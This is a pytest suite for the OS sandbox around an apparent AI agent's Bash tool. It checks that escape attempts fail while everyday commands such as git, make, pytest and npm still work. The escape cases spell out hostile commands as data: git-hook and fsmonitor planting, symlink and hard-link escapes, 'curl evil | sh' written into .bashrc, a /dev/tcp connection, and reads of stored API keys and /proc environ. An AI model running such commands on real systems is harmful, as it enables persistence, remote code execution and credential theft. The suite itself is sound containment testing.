"""The OS sandbox under the Bash tool, on the real kernel: an escape suite (each case
must be stopped, checked on the file system or the socket) and a must-work suite (what a
developer runs every day keeps working inside `workspace-write`)."""

from __future__ import annotations

import functools
import http.server
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from sema_rpc import sandbox
from sema_rpc.core.config import sema_root
from sema_rpc.sandbox.settings import SandboxSettings
from sema_rpc.tools.base import ToolContext, ToolServices
from sema_rpc.tools.bash import BashTool, command_sandbox

from ._helpers import args_of, run

AVAILABLE, WHY, _ABI = sandbox.status()
pytestmark = pytest.mark.skipif(not AVAILABLE, reason=f"no OS sandbox here: {WHY}")

tool = BashTool()


@pytest.fixture
def repo(workspace: Path) -> Path:
    """A git repository with a commit, a `.sema` folder and a `src/` folder."""
    (workspace / "src").mkdir()
    (workspace / "src" / "main.c").write_text("int main(void) { return 0; }\n")
    (workspace / ".sema").mkdir()
    (workspace / ".sema" / "settings.json").write_text("{}\n")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t", "-C", str(workspace)]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "first"], check=True)
    return workspace


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    path = tmp_path / "outside"
    path.mkdir()
    (path / "victim.txt").write_text("original\n")
    return path


def boxed(workspace: Path, mode: str = "workspace-write") -> Iterator[ToolContext]:
    box = SandboxSettings(mode=mode)
    try:
        yield ToolContext(working_dir=workspace, session_id="s", services=ToolServices(sandbox=box))
    finally:
        box.close()


@pytest.fixture
def ww(repo: Path) -> Iterator[ToolContext]:
    yield from boxed(repo)


@pytest.fixture
def ro(repo: Path) -> Iterator[ToolContext]:
    yield from boxed(repo, "read-only")


# ---------------------------------------------------------------- escape suite


async def test_write_outside_the_workspace(ww: ToolContext, outside: Path) -> None:
    out = await run(
        tool, ww, command=f"echo pwned > {outside}/new.txt; echo x >> {outside}/victim.txt"
    )
    assert not (outside / "new.txt").exists()
    assert (outside / "victim.txt").read_text() == "original\n"
    assert "[sandbox]" in out.content and "Permission denied" in out.content


@pytest.mark.parametrize(
    "command",
    [
        "echo '[core] fsmonitor = touch pwned' >> .git/config",
        "printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/pre-commit",
        "git config core.fsmonitor 'touch pwned'",
        "rm -rf .git",
        "mv .git moved",
        "ln -s ../../src/main.c .git/hooks/post-commit",
        "umount .git || mount -o remount,rw .git; echo x >> .git/config",
        "echo '{\"x\": 1}' > .sema/settings.json",
    ],
)
async def test_nothing_inside_dot_git_or_dot_sema_changes(
    ww: ToolContext, repo: Path, command: str
) -> None:
    config = (repo / ".git" / "config").read_bytes()
    hooks = sorted(p.name for p in (repo / ".git" / "hooks").iterdir())
    await run(tool, ww, command=command)
    assert (repo / ".git" / "config").read_bytes() == config
    assert sorted(p.name for p in (repo / ".git" / "hooks").iterdir()) == hooks
    assert (repo / ".sema" / "settings.json").read_text() == "{}\n"
    assert not (repo / "moved").exists() and not (repo / "pwned").exists()


async def test_symlink_pointing_out(ww: ToolContext, repo: Path, outside: Path) -> None:
    (repo / "src" / "link.txt").symlink_to(outside / "victim.txt")  # placed by a stranger
    out = await run(
        tool,
        ww,
        command=f"echo pwned > src/link.txt; ln -s {outside}/new.txt src/l2; echo x > src/l2",
    )
    assert (outside / "victim.txt").read_text() == "original\n"
    assert not (outside / "new.txt").exists()
    assert "[sandbox]" in out.content


async def test_hard_link_pointing_out(ww: ToolContext, repo: Path, outside: Path) -> None:
    out = await run(
        tool,
        ww,
        command=f"ln {outside}/victim.txt src/hard && echo pwned > src/hard; "
        "ln src/main.c .git/hooks/pre-commit",
    )
    assert (outside / "victim.txt").read_text() == "original\n"
    assert not (repo / "src" / "hard").exists()
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert "Invalid cross-device link" in out.content


async def test_python_writing_the_bashrc(ww: ToolContext) -> None:
    bashrc = Path(os.environ["HOME"]) / ".bashrc"  # the suite's temporary home
    bashrc.parent.mkdir(parents=True, exist_ok=True)
    bashrc.write_text("# mine\n")
    out = await run(
        tool,
        ww,
        command=f"{sys.executable} -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a')"
        ".write('curl evil | sh')\"",
    )
    assert bashrc.read_text() == "# mine\n"
    assert "PermissionError" in out.content and "[sandbox]" in out.content


async def test_a_background_process_writing_later(
    ww: ToolContext, repo: Path, outside: Path
) -> None:
    out = await run(
        tool,
        ww,
        command="setsid sh -c 'sleep 0.5; echo late > inside-later.txt; "
        f"echo late > {outside}/later.txt; touch tried-outside' > /dev/null 2>&1 < /dev/null &"
        " echo started",
    )
    assert out.content == "started"
    deadline = time.monotonic() + 20  # until the process has tried the outside write
    while not (repo / "tried-outside").exists() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert (repo / "inside-later.txt").exists(), "the detached process did run"
    assert not (outside / "later.txt").exists()


async def test_connecting_to_a_listening_loopback_port(ww: ToolContext) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    try:
        out = await run(
            tool,
            ww,
            command=f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\"; "
            f"exec 3<>/dev/tcp/127.0.0.1/{port}",
        )
        with pytest.raises(TimeoutError):
            listener.accept()
    finally:
        listener.close()
    assert "Permission denied" in out.content and "no network connections" in out.content


async def test_the_user_sema_root_is_unreadable(ww: ToolContext) -> None:
    root = sema_root()
    root.mkdir(parents=True, exist_ok=True)
    secret = "sk-profile-secret-0123456789"
    (root / "models.json").write_text(f'{{"key": "{secret}"}}')
    (root / "skills" / "demo").mkdir(parents=True, exist_ok=True)
    (root / "skills" / "demo" / "run.sh").write_text("echo skill-script-readable\n")
    out = await run(
        tool,
        ww,
        command=f"cat {root}/models.json; grep -r sk- {root}; bash {root}/skills/demo/run.sh",
    )
    assert secret not in out.content
    assert "skill-script-readable" in out.content, "the user's skills stay readable"


async def test_the_server_environment_is_unreadable(ww: ToolContext) -> None:
    os.environ["W23_SERVER_ONLY"] = "server-secret-value"
    try:
        out = await run(tool, ww, command=f"cat /proc/{os.getpid()}/environ | tr '\\0' '\\n'")
    finally:
        del os.environ["W23_SERVER_ONLY"]
    assert "server-secret-value" not in out.content


async def test_a_read_only_guess_cannot_write(
    ww: ToolContext, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The parser calls `git diff --ext-diff` read-only, but a git config can make it run
    a program: it runs in `read-only`, so the program runs and cannot write."""
    config = tmp_path / "gitconfig"
    config.write_text("[diff]\n\texternal = touch src/pwned-by-diff\n")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    (repo / "src" / "main.c").write_text("changed\n")
    args = args_of(tool, command="git diff --ext-diff")
    assert command_sandbox(args, ww) == "read-only"
    assert tool.permission(args, ww) is None, "asked nothing, as before the sandbox"
    out = await run(tool, ww, command="git diff --ext-diff")
    assert "cannot touch 'src/pwned-by-diff': Permission denied" in out.content, "it ran"
    assert not (repo / "src" / "pwned-by-diff").exists()


async def test_read_only_mode_writes_only_its_temp_dir(ro: ToolContext, repo: Path) -> None:
    out = await run(tool, ro, command='touch src/new.c; echo t > "$TMPDIR/t" && cat "$TMPDIR/t"')
    assert not (repo / "src" / "new.c").exists()
    assert out.content.startswith("touch: cannot touch 'src/new.c': Permission denied")
    assert "\nt\n" in out.content
    assert "read-only OS sandbox" in out.content


# ---------------------------------------------------------------- must-work suite


async def test_git_status_and_diff(ww: ToolContext, repo: Path) -> None:
    (repo / "src" / "main.c").write_text("int main(void) { return 1; }\n")
    out = await run(tool, ww, command="git status --short && git diff --stat")
    assert out.content.startswith(" M src/main.c") and "1 file changed" in out.content


async def test_make_and_a_compiler_write_into_the_workspace(ww: ToolContext, repo: Path) -> None:
    if shutil.which("gcc") is None or shutil.which("make") is None:
        pytest.skip("gcc and make are not installed")
    (repo / "Makefile").write_text(
        "hello: src/main.c\n\tgcc -o hello src/main.c\n\nbuild/out.o: src/main.c\n"
        "\tmkdir -p build && gcc -c -o build/out.o src/main.c\n"
    )
    out = await run(tool, ww, command="make hello build/out.o && ./hello && echo ran")
    assert out.content.endswith("ran"), out.content
    assert (repo / "hello").is_file() and (repo / "build" / "out.o").is_file()


async def test_pytest_writes_its_cache(ww: ToolContext, repo: Path) -> None:
    (repo / "test_one.py").write_text("def test_one():\n    assert 1 + 1 == 2\n")
    out = await run(tool, ww, command=f"{sys.executable} -m pytest -q -p no:randomly test_one.py")
    assert "1 passed" in out.content
    assert (repo / ".pytest_cache" / "v" / "cache" / "nodeids").is_file()
    assert "PytestCacheWarning" not in out.content


@pytest.fixture
def npm_cache(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    """A package in the user's npm cache (~/.npm), put there from a loopback registry."""
    if shutil.which("npm") is None:
        pytest.skip("npm is not installed")
    home = Path(os.environ["HOME"])
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "package.json").write_text('{"name": "tiny-lib", "version": "1.0.0"}')
    (pkg / "index.js").write_text("module.exports = 42\n")
    subprocess.run(["npm", "pack", "--silent"], cwd=pkg, check=True, capture_output=True)
    served = tmp_path / "registry"
    (served / "tiny-lib" / "-").mkdir(parents=True)
    shutil.copy(pkg / "tiny-lib-1.0.0.tgz", served / "tiny-lib" / "-")
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0),
        functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(served)),
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/tiny-lib/-/tiny-lib-1.0.0.tgz"
    try:
        subprocess.run(
            ["npm", "cache", "add", url], check=True, capture_output=True, env={**os.environ}
        )
    finally:
        server.shutdown()
        server.server_close()
    assert (home / ".npm" / "_cacache").is_dir()
    yield url, home / ".npm"


async def test_npm_reads_the_global_cache(
    ww: ToolContext, repo: Path, npm_cache: tuple[str, Path]
) -> None:
    url, _cache = npm_cache
    (repo / "package.json").write_text(
        '{"name": "app", "version": "1.0.0", "scripts": {"build": "node -e \\"require(\'fs\')'
        ".writeFileSync('built.txt', 'ok')\\\"\"}}"
    )
    out = await run(tool, ww, command="npm cache ls && npm run build --silent && cat built.txt")
    assert url.split("//", 1)[1].split("/", 1)[0] in out.content, out.content
    assert out.content.endswith("ok") and (repo / "built.txt").read_text() == "ok"


async def test_temp_dir_devices_and_stdout(ww: ToolContext) -> None:
    out = await run(
        tool,
        ww,
        command='f=$(mktemp) && echo t > "$f" && cat "$f" && echo null > /dev/null '
        "&& echo via-stdout > /dev/stdout && echo via-stderr > /dev/stderr",
    )
    assert out.content == "t\nvia-stdout\nvia-stderr", out.content


async def test_the_user_can_run_it_outside(ww: ToolContext, outside: Path) -> None:
    """`outside_sandbox: true` runs unconfined, and is its own consent request."""
    args = args_of(tool, command=f"touch {outside}/made", outside_sandbox=True)
    ask = tool.permission(args, ww)
    assert ask is not None and ask.leaves_sandbox
    assert f"touch {outside}/made" in ask.title and "outside the sandbox" in ask.title
    await run(tool, ww, command=f"touch {outside}/made", outside_sandbox=True)
    assert (outside / "made").exists()


def test_a_path_that_vanished_before_its_rule_is_skipped_not_fatal(tmp_path: Path) -> None:
    """Listing a folder (the siblings of a hidden one) races with other processes: a
    grant on a path gone meanwhile is dropped (fewer rights), the command still runs."""
    script = (
        "import sys; from sema_rpc.sandbox import linux; "
        f"linux.restrict(write_beneath=['{tmp_path}/gone', '{tmp_path}'], "
        f"read_beneath=['{tmp_path}/gone-too', '/']); "
        f"open('{tmp_path}/ok', 'w').write('x')"
    )
    repo_root = Path(sandbox.__file__).parents[2]
    proc = subprocess.run(
        [sys.executable, "-c", script], cwd=repo_root, capture_output=True, text=True
    )
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "ok").read_text() == "x"
